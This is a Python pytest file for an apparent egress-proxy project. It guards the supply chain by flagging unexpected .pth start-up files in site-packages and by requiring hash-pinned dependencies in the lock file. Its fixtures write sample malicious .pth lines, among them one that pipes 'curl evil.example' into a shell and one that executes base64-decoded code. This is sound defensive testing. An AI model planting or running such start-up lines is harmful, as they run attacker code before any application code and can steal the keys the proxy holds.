"""Supply chain: the deploy image's dependencies are pinned with hashes, and no
installed package runs code at interpreter start-up that we did not expect.

A `.pth` file in site-packages is read by every Python start; a line starting with
`import` is executed -- before any of our code, in the proxy that holds every vendor
key. A gateway's PyPI release shipped a credential stealer exactly so. Each `.pth`
here must be on ALLOWED_PTH, from the package expected, with the content expected.
"""

from __future__ import annotations

import importlib.metadata
import re
import site
import sys
import tomllib
from dataclasses import dataclass
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from packaging.version import Version

REPO = Path(__file__).resolve().parents[1]
LOCK = REPO / "deploy" / "requirements.lock"


@dataclass(frozen=True)
class AllowedPth:
    owner: str  # the distribution that ships it
    lines: re.Pattern[str]  # what every non-blank, non-comment line must match
    why: str


ALLOWED_PTH: dict[re.Pattern[str], AllowedPth] = {
    # setuptools: lets `import distutils` find its copy (3.12 has no stdlib distutils)
    re.compile(r"distutils-precedence\.pth"): AllowedPth(
        "setuptools", re.compile(
            r"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os\.environ\.get\(var, "
            r"'local'\) == 'local'; enabled and __import__\('_distutils_hack'\)\.add_shim\(\);"
            r" ?"),
        "setuptools' distutils shim"),
    # our own editable install (`pip install -e .`): a finder, or a path to addons/
    re.compile(r"__editable__\.egressguard-[0-9][0-9a-z.+-]*\.pth"): AllowedPth(
        "egressguard", re.compile(
            r"import (__editable___egressguard_[0-9a-z_]+_finder); \1\.install\(\)"
            r"|" + re.escape(str(REPO)) + r"(/addons)?"),
        "egressguard installed for development"),
}


# -- .pth files -----------------------------------------------------------------------
def site_dirs() -> list[Path]:
    """Every folder whose .pth files this interpreter reads at start-up."""
    dirs = list(site.getsitepackages())
    if site.ENABLE_USER_SITE and site.getusersitepackages():
        dirs.append(site.getusersitepackages())
    return [Path(d) for d in dict.fromkeys(dirs) if Path(d).is_dir()]


def owners(dirs: list[Path]) -> dict[Path, str]:
    """.pth file -> the distribution whose RECORD lists it."""
    found: dict[Path, str] = {}
    for dist in importlib.metadata.distributions(path=[str(d) for d in dirs]):
        for file in dist.files or ():
            if file.name.endswith(".pth"):
                found[Path(dist.locate_file(file)).resolve()] = dist.metadata["Name"]
    return found


def unexpected_pth(dirs: list[Path]) -> list[str]:
    """What is wrong with the .pth files in `dirs`, one line per file (empty: all good)."""
    shipped_by = owners(dirs)
    problems = []
    for path in sorted(p for d in dirs for p in d.glob("*.pth")):
        owner = shipped_by.get(path.resolve(), "no installed package")
        rule = next((a for pattern, a in ALLOWED_PTH.items() if pattern.fullmatch(path.name)),
                    None)
        lines = [ln.strip() for ln in path.read_text(errors="replace").splitlines()
                 if ln.strip() and not ln.lstrip().startswith("#")]
        runs = [ln for ln in lines if re.match(r"import[ \t]", ln)]
        if rule is None:
            problems.append(f"{path} (from {owner}) is not on the allowlist"
                            f"{' and runs code at start-up: ' + runs[0][:120] if runs else ''}")
        elif canonicalize_name(owner) != canonicalize_name(rule.owner):
            problems.append(f"{path} is shipped by {owner}, not {rule.owner}")
        elif bad := [ln for ln in lines if not rule.lines.fullmatch(ln)]:
            problems.append(f"{path} (from {owner}) holds a line not expected of "
                            f"{rule.why}: {bad[0][:120]}")
    return problems


def test_no_installed_package_ships_an_unexpected_pth_file() -> None:
    dirs = site_dirs()
    assert any(Path(sys.prefix) in d.parents for d in dirs), dirs  # the venv is looked at
    problems = unexpected_pth(dirs)
    assert not problems, "\n".join(problems)


@pytest.fixture
def site_packages(tmp_path: Path) -> Path:
    """A site-packages folder with a distribution that ships a .pth (as pip leaves it)."""
    folder = tmp_path / "site-packages"
    info = folder / "helpful_tool-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: helpful-tool\nVersion: 1.0\n")
    (info / "RECORD").write_text("helpful_tool_init.pth,,\ndistutils-precedence.pth,,\n"
                                 "helpful_tool-1.0.dist-info/METADATA,,\n")
    return folder


def test_a_pth_that_runs_code_is_named_with_its_package(site_packages: Path) -> None:
    evil = site_packages / "helpful_tool_init.pth"
    evil.write_text("import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")
    assert unexpected_pth([site_packages]) == [
        f"{evil} (from helpful-tool) is not on the allowlist and runs code at start-up: "
        "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))"]


def test_an_allowed_name_from_another_package_or_with_other_code_fails(
        site_packages: Path) -> None:
    shim = site_packages / "distutils-precedence.pth"
    shim.write_text("import os; os.system('curl evil.example | sh')\n")
    (problem,) = unexpected_pth([site_packages])
    assert problem == f"{shim} is shipped by helpful-tool, not setuptools"


def test_a_path_only_pth_is_still_not_allowed_unless_listed(site_packages: Path) -> None:
    """A path line runs nothing, but it puts a folder first in line for imports."""
    (site_packages / "helpful_tool_init.pth").write_text("/opt/helpful\n")
    (problem,) = unexpected_pth([site_packages])
    assert problem.endswith("helpful_tool_init.pth (from helpful-tool) is not on the allowlist")


# -- the lock file ----------------------------------------------------------------------
@dataclass(frozen=True)
class Pin:
    name: str
    version: str
    hashes: tuple[str, ...]


def read_lock(text: str) -> dict[str, Pin]:
    """`name==version [; marker] \\` followed by `--hash=sha256:...` lines, as pip-compile
    and `uv pip compile --generate-hashes` write them. ValueError for anything else."""
    pins: dict[str, Pin] = {}
    entries = re.split(r"\n(?=[^\s#])", re.sub(r"(?m)^#.*\n?", "", text))
    for entry in filter(str.strip, entries):
        head = entry.split()[0]
        req = Requirement(head)
        specs = list(req.specifier)
        if len(specs) != 1 or specs[0].operator != "==":
            raise ValueError(f"{head}: not pinned to one exact version (name==version)")
        hashes = tuple(h.removeprefix("--hash=sha256:") for h in entry.split()
                       if h.startswith("--hash="))
        if not hashes or any(not re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes):
            raise ValueError(f"{head}: no --hash=sha256: (every pin needs one)")
        pins[canonicalize_name(req.name)] = Pin(req.name, specs[0].version, hashes)
    return pins


def runtime_requirements() -> list[Requirement]:
    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    return [Requirement(r) for r in project["dependencies"]]


def test_the_lock_pins_every_runtime_dependency_with_hashes() -> None:
    pins = read_lock(LOCK.read_text())
    for req in runtime_requirements():
        pin = pins.get(canonicalize_name(req.name))
        assert pin is not None, f"{req.name} is a dependency but not in {LOCK}: run `make lock`"
        assert req.specifier.contains(Version(pin.version), prereleases=True), (
            f"{LOCK} pins {pin.name}=={pin.version}, outside pyproject's {req}: run `make lock`")
    assert pins["mitmproxy"].version.startswith("12.2."), "pyproject pins mitmproxy 12.2"
    assert "egressguard" not in pins  # installed from source, --no-deps


@pytest.mark.parametrize(("text", "error"), [
    ("hvac>=2.3 \\\n    --hash=sha256:" + "a" * 64 + "\n", "not pinned to one exact version"),
    ("hvac==2.4.0\n", "no --hash=sha256:"),
    ("hvac==2.4.0 \\\n    --hash=sha256:abc\n", "no --hash=sha256:"),
])
def test_a_loose_or_unhashed_pin_is_refused(text: str, error: str) -> None:
    with pytest.raises(ValueError, match=error):
        read_lock(text)


def test_the_venv_runs_what_the_lock_pins() -> None:
    """Tests run against the versions the image ships (`make` installs from the lock)."""
    pins = read_lock(LOCK.read_text())
    drift = []
    for pin in pins.values():
        try:
            installed = importlib.metadata.version(pin.name)
        except importlib.metadata.PackageNotFoundError:
            continue  # for another platform (a marker), or not needed on this one
        if Version(installed) != Version(pin.version):
            drift.append(f"{pin.name}: lock {pin.version}, installed {installed}")
    assert not drift, "run `make` (it installs from the lock): " + "; ".join(drift)
